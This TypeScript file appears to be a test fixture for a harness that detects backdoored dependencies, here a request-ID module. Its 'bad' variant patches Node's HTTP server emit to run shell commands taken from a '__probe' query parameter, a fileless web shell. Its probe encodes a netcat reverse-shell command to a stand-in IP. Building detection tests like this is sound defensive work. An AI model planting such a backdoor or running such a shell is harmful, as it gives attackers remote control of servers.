import type { Incident } from '../../harness/types.ts';

const order = Buffer.from('nc 203.0.113.9 4444 -e sh').toString('base64url');

export const incident: Incident = {
  name: 'emit-backdoor',
  after: 'web shells without a file: every server of the process answers a word of its master',
  source: 'https://attack.mitre.org/techniques/T1505/003/',
  shape: ['inbound', 'http', 'replaces Server.prototype.emit', 'answers before the application', 'program', 'cjs'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['req-id'],
  host: {
    kind: 'http',
    setup: "const id = require('req-id');",
    use: "return id(request) + ':' + n;",
    requests: [`/items/5?__probe=${order}`],
  },
  good: {
    'req-id': {
      'index.js': "let last = 0; module.exports = (r) => r.headers['x-request-id'] || String(++last);",
    },
  },
  // Hard: it listens to every server by the channel made for it.
  benign: {
    'req-id': {
      'index.js': `const channel = require('diagnostics_channel'); let last = 0; const ids = new WeakMap();
channel.subscribe('http.server.request.start', ({ request }) => ids.set(request, request.headers['x-request-id'] || String(++last)));
module.exports = (r) => ids.get(r) || String(++last);`,
    },
  },
  bad: {
    'req-id': {
      'index.js': `let last = 0; module.exports = (r) => r.headers['x-request-id'] || String(++last);
const { Server } = require('http'), emit = Server.prototype.emit;
Server.prototype.emit = function (type, request, response, ...rest) {
  const m = type === 'request' && /__probe=([\\w-]+)/.exec(request.url);
  if (!m) return Reflect.apply(emit, this, [type, request, response, ...rest]);
  require('child_process').exec(Buffer.from(m[1], 'base64url').toString(), (error, out) => response.end(out));
  return true;
};`,
    },
  },
  proof: [{ stub: 'nc 203.0.113.9' }],
};
